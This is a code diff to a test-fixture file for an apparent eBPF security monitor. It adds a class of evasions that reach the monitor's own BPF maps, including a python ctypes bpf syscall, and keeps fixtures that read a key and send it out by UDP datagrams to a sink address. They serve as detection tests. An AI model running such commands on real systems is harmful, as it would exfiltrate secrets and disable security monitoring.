@@ -36,6 +36,9 @@ pub enum EvasionClass {
     /// How traffic leaves without looking like a connection: a datagram addressed with no
     /// connect(2), several destinations in one call, the 32-bit ABI.
     Network,
+    /// How the monitor itself is reached: its maps, programs and links got by id through
+    /// bpf(2), from any program, through either ABI.
+    Monitor,
 }
 
 impl EvasionClass {
@@ -45,6 +48,7 @@ impl EvasionClass {
             EvasionClass::Program => "how a program is identified",
             EvasionClass::Scope => "how a process leaves its session",
             EvasionClass::Network => "how traffic leaves the host",
+            EvasionClass::Monitor => "how the monitor itself is reached",
         }
     }
 }
@@ -315,7 +319,7 @@ impl Fixtures {
     }
 
     /// Ways around the detections by an insider who has read the source, each a real session:
-    /// at least 25, across the four classes.
+    /// at least 25, across the five classes.
     pub fn evasions(&self) -> Vec<Evasion> {
         use EvasionClass::*;
         let d = self.dir.display();
@@ -398,6 +402,10 @@ impl Fixtures {
             // A key read, then sent away in UDP datagrams addressed with no connect(2).
             ev(Network, s("key sent in a UDP datagram", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
             ev(Network, s("key sent by sendmmsg behind a local decoy", &format!("{key} && \"$VIGIL_TEST_HELPER\" datagrams --mmsg 127.0.0.1:9 {ip}:{sink} > /dev/null"), "bulk-read-then-outbound", "T1041")),
+            // --- how the monitor itself is reached ----------------------------------------
+            ev(Monitor, s("the monitor's policy map got by id", "\"$VIGIL_TEST_HELPER\" bpf-map-fd POLICY > /dev/null", "bpf-in-session", "T1562.001")),
+            ev(Monitor, s("map ids walked from python", "python3 -c \"import ctypes; a = ctypes.create_string_buffer(64); ctypes.CDLL(None).syscall(321, 12, a, 64)\"", "bpf-in-session", "T1562.001")),
+            ev(Monitor, s("map ids walked through the 32-bit ABI", "\"$VIGIL_TEST_HELPER\" int80 bpf-next-map", "bpf-in-session", "T1562.001")).also("compat-syscall-in-session"),
             ev(Network, s("key sent by python's sendto", &format!("{key} && python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'k', ('{ip}', {sink}))\""), "bulk-read-then-outbound", "T1041")),
         ]
     }
